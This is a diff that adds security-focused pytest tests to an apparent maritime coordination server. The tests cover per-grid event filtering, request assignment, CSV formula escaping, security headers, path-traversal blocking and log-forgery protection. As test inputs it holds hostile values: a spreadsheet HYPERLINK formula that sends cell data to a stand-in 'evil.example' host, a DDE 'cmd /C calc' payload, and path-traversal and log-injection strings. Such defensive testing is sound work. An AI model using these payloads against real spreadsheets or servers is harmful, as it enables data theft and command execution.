@@ -498,3 +498,202 @@ def test_gateways_bound_in_the_settings_keep_their_kind_whatever_they_announce()
     assert verdicts("ais-1/ais", []) == []
     with pytest.raises(Exception, match="both AIS and Beidou"):
         gateway_kinds(GatewaySettings(ais_ids=["g"], beidou_ids=["g"]))
+
+
+# --- 12.6: the live stream, requests, SITREPs, exports, headers, files, logs, shutdown ------------
+
+
+async def test_the_live_stream_shows_a_coordinator_only_his_grids_figures(site: Site) -> None:
+    hub = site.hub
+    got: dict[str, list[dict[str, Any]]] = {"ca": [], "admin": []}
+    async with aiohttp.ClientSession() as s:
+        sockets = {}
+        for who in got:
+            url = f"{site.base}/api/v1/events?token={site.tokens[who]}"
+            sockets[who] = await s.ws_connect(url)
+            assert (await sockets[who].receive_json(timeout=10))["type"] == "hello"
+        progress = {
+            "broadcast_id": 7, "grid_ids": ["G01", "G02"], "total": 5, "done": 3,
+            "states": {"acknowledged": 3, "queued": 2},
+            "grids": [
+                {"grid_id": "G01", "total": 3, "done": 2,
+                 "states": {"acknowledged": 2, "queued": 1}},
+                {"grid_id": "G02", "total": 2, "done": 1,
+                 "states": {"acknowledged": 1, "queued": 1}},
+            ],
+        }  # fmt: skip
+        recall = {
+            "broadcast_id": 8, "grid_ids": ["G01", "G02"], "at": "2026-01-01T00:00:00Z",
+            "total": {"total": 5, "unaccounted": 4, "in_port": 1},
+            "grids": [{"grid_id": "G01", "total": 3, "unaccounted": 3, "in_port": 0},
+                      {"grid_id": "G02", "total": 2, "unaccounted": 1, "in_port": 1}],
+        }  # fmt: skip
+        hub.events.publish("broadcast_progress", progress)
+        hub.events.publish("recall", recall)
+        hub.events.publish("broadcast_progress", progress | {"broadcast_id": 9, "grid_ids": ["G02"],
+                           "grids": progress["grids"][1:]})  # fmt: skip
+        hub.events.publish("incident_log", {"incident_id": 1, "grid_ids": [], "text": "无网格"})
+        hub.events.publish("gateway_note", {"text": "no grid at all"})
+        hub.events.publish("request", {"request_pk": 99, "grid_id": "G01", "action": "received"})
+        for who, ws in sockets.items():
+            while True:
+                frame = await ws.receive_json(timeout=10)
+                got[who].append(frame)
+                if frame["type"] == "request":
+                    break
+            await ws.close()
+    ca = {f["type"] + str(f["data"].get("broadcast_id", "")): f["data"] for f in got["ca"]}
+    assert set(ca) == {"broadcast_progress7", "recall8", "request"}, list(ca)
+    seen = ca["broadcast_progress7"]
+    assert seen["grid_ids"] == ["G01"] and [g["grid_id"] for g in seen["grids"]] == ["G01"]
+    assert (seen["total"], seen["done"], seen["states"]) == (3, 2, {"acknowledged": 2, "queued": 1})
+    assert ca["recall8"]["total"] == {"total": 3, "unaccounted": 3, "in_port": 0}
+    assert "G02" not in json.dumps(got["ca"])
+    # An admin sees every grid's figures, and the events of no grid.
+    assert len(got["admin"]) == 6
+    assert got["admin"][0]["data"]["total"] == 5
+
+
+async def _distress_and_request(site: Site) -> tuple[int, int]:
+    """V1 (G01) sends a distress and a request; their incident and request ids."""
+    from tests.test_broadcasts import online
+
+    hub = site.hub
+    assert isinstance(hub.clock, FakeClock)
+    v = online(hub, "V1", hub.clock)
+    now = hub.clock.now().isoformat()
+    try:
+        v.publish("distress", {"distress_id": "d1", "ts": now, "lat": 23.1, "lon": 117.55,
+                               "nature": "flooding", "persons": 5, "text": "机舱进水"})  # fmt: skip
+        v.publish("request", {"request_id": "r1", "ts": now, "category": "equipment",
+                              "text": "雷达故障"})  # fmt: skip
+        found: dict[str, int] = {}
+
+        async def both() -> bool:
+            async with aiohttp.ClientSession() as s:
+                alerts = (await site.call(s, "admin", "GET", "/api/v1/alerts"))[1]["alerts"]
+                reqs = (await site.call(s, "admin", "GET", "/api/v1/requests"))[1]["requests"]
+            for a in alerts:
+                if a["type"] == "distress" and a.get("incident_id"):
+                    found["incident"] = a["incident_id"]
+            if reqs:
+                found["request"] = reqs[0]["id"]
+            return len(found) == 2
+
+        await wait_for(both, timeout=20)
+    finally:
+        v.close()
+    return found["incident"], found["request"]
+
+
+async def test_requests_go_only_to_people_of_their_grid_and_sitreps_are_audited(
+    site: Site,
+) -> None:
+    iid, rid = await _distress_and_request(site)
+    async with aiohttp.ClientSession() as s:
+        body = {"username": "off", "password": "off-pass-12", "role": "coordinator",
+                "grids": ["G01"]}  # fmt: skip
+        assert (await site.call(s, "admin", "POST", "/api/v1/users", body))[0] == 201
+        assert (await site.call(s, "admin", "PATCH", "/api/v1/users/off", {"disabled": True}))[
+            0
+        ] == 200
+        path = f"/api/v1/requests/{rid}/assign"
+        for name in ("cb", "view", "nobody", "off", '=HYPERLINK("x")'):
+            status, answer = await site.call(s, "ca", "POST", path, {"username": name})
+            assert (status, answer["error"]) == (400, "bad_assignee"), (name, answer)
+        for name in ("ca", "admin"):
+            status, answer = await site.call(s, "ca", "POST", path, {"username": name})
+            assert status == 200 and answer["assigned_to"] == name
+        status, answer = await site.call(s, "ca", "POST", f"/api/v1/incidents/{iid}/sitrep", {})
+        assert status == 201
+        _, audit = await site.call(s, "admin", "GET", "/api/v1/audit")
+        sitreps = [e for e in audit["audit"] if e["action"] == "incident.sitrep"]
+        assert [(e["username"], e["target"]) for e in sitreps] == [("ca", f"incident/{iid}")]
+
+
+def test_the_attendance_export_never_hands_a_spreadsheet_a_formula() -> None:
+    import csv
+    import io
+
+    from seaLink.services.training import attendance_csv
+
+    evil = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
+    report = {"vessels": [{"run_id": 1, "occurrence": "2026-01-01T00:00:00+00:00",
+                           "grid_id": "G01", "vessel_id": "V1", "hull_name": "=cmd|' /C calc'!A0",
+                           "attended": True, "crew": [*evil, "陈海生"], "score": 100,
+                           "passed": True}]}  # fmt: skip
+    rows = list(csv.reader(io.StringIO(attendance_csv(report))))
+    cells = [c for row in rows[1:] for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    assert rows[1][6] == "'" + evil[0] and rows[-1][6] == "陈海生"
+    assert rows[1][4] == "'=cmd|' /C calc'!A0"
+
+
+async def test_every_answer_carries_the_security_headers_and_only_console_files_are_served(
+    site: Site,
+) -> None:
+    want = {
+        "X-Frame-Options": "DENY",
+        "X-Content-Type-Options": "nosniff",
+        "Referrer-Policy": "no-referrer",
+    }
+    async with aiohttp.ClientSession() as s:
+        answers = {}
+        for path, who in (("/console/", None), ("/console/js/main.js", None),
+                          ("/api/v1/vessels", "admin"), ("/api/v1/nothing-here", "admin"),
+                          ("/healthz", None), ("/api/v1/vessels", None)):  # fmt: skip
+            r = await s.get(site.base + path, headers=site.auth(who) if who else {})
+            await r.read()
+            answers[path, who] = r
+            for name, value in want.items():
+                assert r.headers.get(name) == value, (path, name, dict(r.headers))
+            csp = r.headers["Content-Security-Policy"]
+            assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp
+            assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
+            server = r.headers.get("Server", "")
+            assert "Python" not in server and "aiohttp" not in server, server
+        assert answers["/console/js/main.js", None].status == 200
+        assert answers["/api/v1/vessels", "admin"].headers["Cache-Control"] == "no-store"
+        for path in ("/console/README.md", "/console/tools/build_land.mjs",
+                     "/console/tools/README.md", "/console/data/README.md",
+                     "/console/vendor/leaflet/LICENSE", "/console/data/LICENSE.world-atlas",
+                     "/console/%2e%2e/README.md", "/console/js/../../README.md",
+                     "/console/.git/config", "/console/css/"):  # fmt: skip
+            r = await s.get(site.base + path)
+            body = await r.read()
+            assert r.status == 404, (path, r.status, body[:80])
+            assert b"SeaLink" not in body or b'"error"' in body
+        for path in ("/console/css/app.css", "/console/data/land.geojson",
+                     "/console/vendor/leaflet/images/marker-icon.png"):  # fmt: skip
+            r = await s.get(site.base + path)
+            await r.read()
+            assert r.status == 200, path
+
+
+def test_nobody_forges_a_log_line_through_what_he_types() -> None:
+    import io
+    import logging
+
+    from seaLink import logsafe
+
+    out = io.StringIO()
+    handler = logging.StreamHandler(out)
+    handler.setFormatter(logsafe.OneLineFormatter(logsafe.FORMAT))
+    log = logging.getLogger("test.forging")
+    log.addHandler(handler)
+    log.propagate = False
+    try:
+        title = "消防演练\n2026-12-06 09:00:00 WARNING seaLink.auth: admin logged out\r\x1b[2J"
+        log.warning("Added job %r to job store", title)
+        log.warning("job %s", title)
+        try:
+            raise ValueError("boom")
+        except ValueError:
+            log.exception("failed on %s", title)
+    finally:
+        log.removeHandler(handler)
+    lines = out.getvalue().splitlines()
+    assert len([ln for ln in lines if "seaLink.auth: admin logged out" in ln]) == 3
+    assert not [ln for ln in lines if ln.startswith("2026-12-06 09:00:00")]
+    assert "\x1b" not in out.getvalue() and "\\x1b[2J" in out.getvalue()
+    assert "Traceback (most recent call last):" in lines  # ours still spans its lines
